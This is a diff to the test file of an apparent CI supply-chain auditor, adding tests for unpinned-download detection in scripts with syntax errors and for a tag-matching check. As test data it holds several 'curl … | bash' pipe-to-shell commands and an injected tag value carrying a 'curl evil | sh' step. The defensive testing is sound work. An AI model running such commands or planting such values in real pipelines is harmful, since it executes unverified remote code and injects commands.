@@ -1,5 +1,6 @@
 import { loadWorkflowFile } from '@paved-road/workflows';
 import { auditDockerfile, auditShellFile, auditWorkflow, expandMatrix } from '../src/audit.js';
+import { tagMatchesRef } from '../src/fix.js';
 
 const SHA = 'a'.repeat(40);
 const DIGEST = 'sha256:' + 'b'.repeat(64);
@@ -184,6 +185,32 @@ describe('unpinned-images', () => {
   });
 });
 
+describe('a run script with a syntax error', () => {
+  it('still reports curl | bash before a line that does not parse, with a note, in workflows, Dockerfiles and scripts', () => {
+    const text = [
+      'on: push',
+      'jobs:',
+      '  b:',
+      '    runs-on: ubuntu-latest',
+      '    steps:',
+      '      - run: |',
+      '          curl -sSL https://x.example/i.sh | bash',
+      '          if then fi',
+    ].join('\n');
+    const findings = audit(text).findings;
+    expect(brief(findings)).toEqual(['7:11 unpinned-download error']);
+    expect(findings[0]!.message).toContain('did not fully parse');
+    expect(findings[0]!.message).toContain('line 2');
+    const script = 'curl -sSL https://x.example/i.sh | bash\nif then fi\n';
+    expect(brief(auditShellFile('install.sh', script).findings)).toEqual(['1:1 unpinned-download error']);
+    const docker = auditDockerfile(
+      'Dockerfile',
+      `FROM scratch\nRUN curl -sSL https://x.example/i.sh | bash; if then fi\n`,
+    );
+    expect(docker.findings.map((f) => f.rule)).toContain('unpinned-download');
+  });
+});
+
 describe('unpinned-download and unlocked-install in run steps', () => {
   const steps = (...runs: string[]) =>
     [
@@ -348,5 +375,17 @@ describe('scriptMayMatter', () => {
     ]) {
       expect([script, scriptMayMatter(script)]).toEqual([script, false]);
     }
+  });
+});
+
+describe('tagMatchesRef', () => {
+  it('accepts the ref and more precise versions of it, one line of tag characters only', () => {
+    expect(tagMatchesRef('v4', 'v4')).toBe(true);
+    expect(tagMatchesRef('v4.2.2', 'v4')).toBe(true);
+    expect(tagMatchesRef('v1.2.3', 'v1.2')).toBe(true);
+    expect(tagMatchesRef('v40', 'v4')).toBe(false);
+    expect(tagMatchesRef('latest', 'v4')).toBe(false);
+    expect(tagMatchesRef('v4.2.2\n- run: curl evil | sh', 'v4')).toBe(false);
+    expect(tagMatchesRef('v4 # x', 'v4')).toBe(false);
   });
 });
